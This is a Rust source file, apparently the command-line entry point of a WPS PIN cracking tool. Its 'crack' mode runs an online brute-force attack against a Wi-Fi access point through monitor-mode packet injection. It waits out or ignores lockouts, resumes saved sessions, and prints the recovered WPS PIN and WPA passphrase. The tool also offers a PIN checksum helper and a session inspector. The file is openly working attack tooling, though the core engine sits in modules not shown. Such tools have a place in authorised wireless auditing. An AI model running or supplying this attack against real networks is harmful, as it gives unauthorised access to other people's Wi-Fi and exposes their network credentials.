/*!
 * WPS PIN recovery command line
 *
 * - crack: run the online attack against an AP (resumable)
 * - checksum: complete a 7-digit PIN
 * - session: inspect a saved session
 */

mod cli;

use std::panic;
use std::path::{Path, PathBuf};
use std::time::Duration;

use anyhow::{anyhow, Context, Result};
use clap::Parser;
use colored::*;
use indicatif::{ProgressBar, ProgressStyle};
use tracing::{debug, warn};
use tracing_subscriber::EnvFilter;

use cli::{Args, CrackArgs, Mode};
use wps_crack::config::{
    seconds_or, Band, ChannelPlan, DEFAULT_DELAY, DEFAULT_LOCK_DELAY, DEFAULT_M57_TIMEOUT,
    DEFAULT_RX_TIMEOUT,
};
use wps_crack::pin::{self, PinCandidate, PinMode};
use wps_crack::platform;
use wps_crack::session::SessionFile;
use wps_crack::transport::PcapTransport;
use wps_crack::{AccessPointInfo, CancelToken, CrackConfig, CrackEngine, RunFailure};

/// Attempts between two session checkpoints
const CHECKPOINT_EVERY: u64 = 10;

/// Setup panic handler to show errors instead of silent exit
fn setup_panic_handler() {
    let default_hook = panic::take_hook();
    panic::set_hook(Box::new(move |panic_info| {
        eprintln!("\n");
        eprintln!("Application Error");
        eprintln!("=================");

        if let Some(location) = panic_info.location() {
            eprintln!(
                "Location: {}:{}:{}",
                location.file(),
                location.line(),
                location.column()
            );
        }

        if let Some(message) = panic_info.payload().downcast_ref::<&str>() {
            eprintln!("Message: {}", message);
        } else if let Some(message) = panic_info.payload().downcast_ref::<String>() {
            eprintln!("Message: {}", message);
        }

        default_hook(panic_info);
    }));
}

fn init_logging(quiet: bool, verbose: u8) {
    let default_level = match (quiet, verbose) {
        (true, _) => "error",
        (false, 0) => "info",
        (false, 1) => "debug",
        (false, _) => "trace",
    };
    let filter = EnvFilter::try_from_default_env()
        .unwrap_or_else(|_| EnvFilter::new(format!("wps_crack={}", default_level)));
    tracing_subscriber::fmt()
        .with_env_filter(filter)
        .with_target(false)
        .with_writer(std::io::stderr)
        .init();
}

fn build_config(args: &CrackArgs) -> Result<CrackConfig> {
    let mut config = CrackConfig::new(args.bssid);
    config.local_mac = match args.mac {
        Some(mac) => Some(mac),
        None => Some(
            platform::interface_mac(&args.interface)
                .with_context(|| format!("Cannot read the MAC address of {}, pass --mac", args.interface))?,
        ),
    };
    config.essid = args.essid.clone();
    config.channel = match args.channel {
        Some(ch) => ChannelPlan::Fixed(ch),
        None if args.five_ghz => ChannelPlan::Hopping(Band::FiveGhz),
        None => ChannelPlan::Hopping(Band::TwoGhz),
    };
    config.rx_timeout = seconds_or(args.timeout, DEFAULT_RX_TIMEOUT);
    config.m57_timeout = seconds_or(args.m57_timeout, DEFAULT_M57_TIMEOUT);
    config.delay = if args.delay == 0.0 {
        Duration::ZERO
    } else {
        seconds_or(args.delay, DEFAULT_DELAY)
    };
    config.lock_delay = seconds_or(args.lock_delay, DEFAULT_LOCK_DELAY);
    config.recurring_delay = args.recurring_delay;
    config.fail_wait = seconds_or(args.fail_wait, Duration::ZERO);
    config.fail_threshold = args.fail_threshold;
    config.candidate_retry_limit = args.retries;
    config.max_attempts = args.max_attempts;
    config.max_lock_waits = args.max_lock_waits;
    config.ignore_locks = args.ignore_locks;
    config.nack_always = args.nack;
    config.eap_terminate = args.eap_terminate;
    config.pin_mode = if args.full { PinMode::Full } else { PinMode::Split };
    config.start_pin = match &args.pin {
        Some(text) => Some(PinCandidate::parse(text).ok_or_else(|| anyhow!("Invalid start PIN '{}'", text))?),
        None => None,
    };
    config.discover = !args.no_discover;
    config.discover_rounds = args.discover_rounds.filter(|&n| n > 0);
    config.associate = !args.no_associate;
    Ok(config.normalized())
}

fn session_path(args: &CrackArgs) -> Option<PathBuf> {
    if args.no_session {
        return None;
    }
    Some(
        args.session
            .clone()
            .unwrap_or_else(|| SessionFile::default_path(&args.session_dir, &args.bssid)),
    )
}

fn spinner() -> ProgressBar {
    let pb = ProgressBar::new_spinner();
    pb.set_style(
        ProgressStyle::default_spinner()
            .template("{spinner:.green} [{elapsed_precise}] {msg}")
            .unwrap_or_else(|_| ProgressStyle::default_spinner()),
    );
    pb.enable_steady_tick(Duration::from_millis(120));
    pb
}

fn run_crack(args: CrackArgs, quiet: bool) -> Result<()> {
    if !platform::is_root() {
        eprintln!(
            "{}",
            "Warning: not running as root, monitor mode capture will probably fail".yellow()
        );
    }

    let config = build_config(&args)?;
    let local = config.local_mac.unwrap_or_default();
    let mut ap = AccessPointInfo::new(args.bssid);
    ap.essid = config.essid.clone();

    let path = session_path(&args);
    let previous = match &path {
        Some(path) if path.exists() => {
            let session = SessionFile::load(path, &args.bssid)?;
            if session.is_complete() {
                println!("{} Session {} is already complete", "ℹ".cyan(), path.display());
                println!("   WPS PIN:  {}", session.pin.as_deref().unwrap_or("-").green().bold());
                println!("   AP SSID:  {}", session.essid.as_deref().unwrap_or("-"));
                println!("   Remove the session file (or pass --no-session) to attack again");
                return Ok(());
            }
            Some(session)
        }
        _ => None,
    };
    if ap.essid.is_none() {
        ap.essid = previous.as_ref().and_then(|s| s.essid.clone());
    }

    let transport = PcapTransport::open(&args.interface, &args.bssid)
        .with_context(|| format!("Failed to open {} for capture and injection", args.interface))?;

    let cancel = CancelToken::new();
    let handler_token = cancel.clone();
    ctrlc::set_handler(move || handler_token.cancel()).context("Failed to install Ctrl-C handler")?;

    println!("🚀 Starting WPS PIN attack");
    println!("📡 Target: {}", ap);
    println!("💻 Interface: {} ({})", args.interface, local);
    println!(
        "🔢 Mode: {}\n",
        if config.pin_mode == PinMode::Full { "full PIN" } else { "split halves" }
    );

    let pb = if quiet { ProgressBar::hidden() } else { spinner() };
    let mut engine = CrackEngine::new(config, ap, transport);
    if let Some(session) = &previous {
        println!(
            "✓ Resuming session: {} attempts, {} PINs rejected\n",
            session.attempts, session.pins_rejected
        );
        engine = engine
            .with_pin_space(session.pin_space())
            .with_retry_state(session.retry_state());
    }

    let progress_pb = pb.clone();
    let checkpoint = path.clone();
    let bssid = args.bssid;
    let essid = engine.ap().essid.clone();
    let mut engine = engine.with_progress(move |status| {
        progress_pb.set_message(format!(
            "PIN {} | {} attempts | {:.2}%",
            status.pin.as_deref().unwrap_or("-"),
            status.attempts,
            status.progress
        ));
        if let Some(path) = &checkpoint {
            if status.attempts % CHECKPOINT_EVERY == 0 {
                let session = SessionFile::from_status(bssid, essid.clone(), status);
                if let Err(e) = session.save(path) {
                    warn!(error = %e, "Session checkpoint failed");
                }
            }
        }
    });

    let report = engine.run(&cancel);
    pb.finish_and_clear();

    if let Some(path) = &path {
        let session = SessionFile::from_status(args.bssid, engine.ap().essid.clone(), &report.status);
        session.save(path)?;
        debug!(path = %path.display(), "Session saved");
    }

    print_report(&report, path.as_deref())
}

fn print_report(report: &wps_crack::CrackReport, path: Option<&Path>) -> Result<()> {
    let status = &report.status;
    println!("\n📊 Statistics:");
    println!("   Attempts: {}", status.attempts);
    println!("   PINs rejected: {}", status.pins_rejected);
    println!("   Time elapsed: {:.2}s", status.elapsed.as_secs_f64());
    println!("   Progress: {:.2}%", status.progress);
    if !report.skipped.is_empty() {
        println!("   Skipped PINs: {}", report.skipped.join(", "));
    }
    println!();

    match &report.result {
        Ok(keys) => {
            println!("{}", "✓ WPS PIN recovered".green().bold());
            println!("   WPS PIN:  {}", keys.pin.green().bold());
            println!("   WPA PSK:  {}", keys.psk.green().bold());
            println!("   AP SSID:  {}", keys.essid);
            Ok(())
        }
        Err(RunFailure::Cancelled) => {
            println!("{}", "Interrupted".yellow());
            if let Some(path) = path {
                println!("   Resume with --session {}", path.display());
            }
            Ok(())
        }
        Err(e) => Err(anyhow!("{}", e)),
    }
}

fn run_checksum(digits: &str) -> Result<()> {
    let value: u32 = match digits.trim().len() {
        7 => digits.trim().parse().context("PIN prefix must be numeric")?,
        _ => return Err(anyhow!("Expected exactly 7 digits, got '{}'", digits)),
    };
    println!("{:07}{}", value, pin::checksum(value));
    Ok(())
}

fn run_session(file: &Path) -> Result<()> {
    let session = SessionFile::inspect(file)?;
    let resume = session.resume;
    println!("📝 Session: {}", file.display());
    println!("   BSSID: {}", session.bssid);
    println!("   ESSID: {}", session.essid.as_deref().unwrap_or("-"));
    println!("   Status: {}", session.status);
    if let Some(pin) = &session.pin {
        println!("   WPS PIN: {}", pin.green().bold());
    }
    println!("   Attempts: {}", session.attempts);
    println!("   PINs rejected: {}", session.pins_rejected);
    match session.pin_space().current() {
        Some(next) => println!("   Next PIN: {}", next),
        None => println!("   Next PIN: none (space exhausted)"),
    }
    if resume.first_half_confirmed {
        println!("   First half: {:04} (confirmed)", resume.first_half);
    }
    Ok(())
}

fn main() -> Result<()> {
    setup_panic_handler();
    let args = Args::parse();
    init_logging(args.quiet, args.verbose);

    match args.mode {
        Mode::Crack(crack) => run_crack(crack, args.quiet),
        Mode::Checksum { pin } => run_checksum(&pin),
        Mode::Session { file } => run_session(&file),
    }
}
